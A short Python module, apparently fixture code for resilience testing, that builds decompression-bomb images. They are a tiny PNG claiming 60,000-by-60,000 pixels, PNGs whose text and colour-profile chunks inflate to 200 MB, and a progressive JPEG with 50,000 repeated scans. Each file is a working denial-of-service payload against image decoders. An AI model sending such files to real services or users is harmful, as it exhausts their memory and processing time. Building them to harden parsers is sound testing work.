"""Pictures that would take a device's memory or time, in few bytes."""

import io
import struct
import zlib

from PIL import Image as Pictures


def _png(width: int, height: int, *chunks: tuple[bytes, bytes]) -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
    pixels = chunk(b"IDAT", zlib.compress(bytes(2000)))
    middle = b"".join(chunk(kind, data) for kind, data in chunks)
    return b"\x89PNG\r\n\x1a\n" + header + middle + pixels + chunk(b"IEND", b"")


def bomb(width: int = 60_000, height: int = 60_000) -> bytes:
    """A PNG of a hundred bytes whose header promises that many pixels."""
    return _png(width, height)


def text_bomb() -> bytes:
    """A small PNG with a comment that unfolds to 200 MB."""
    return _png(8, 8, (b"zTXt", b"Comment\0\0" + zlib.compress(bytes(200_000_000), 9)))


def profile_bomb() -> bytes:
    """A small PNG with a colour profile that unfolds to 200 MB."""
    return _png(8, 8, (b"iCCP", b"p\0\0" + zlib.compress(bytes(200_000_000), 9)))


def endless_jpeg(scans: int = 50_000, side: int = 2000) -> bytes:
    """A progressive JPEG that goes over all its pixels again and again: hours of work in 2 MB."""
    file = io.BytesIO()
    Pictures.new("L", (side, side), 128).save(file, "JPEG", progressive=True)
    data = file.getvalue()
    last = data.rindex(b"\xff\xda")
    return data[:last] + data[last:-2] * scans + data[-2:]
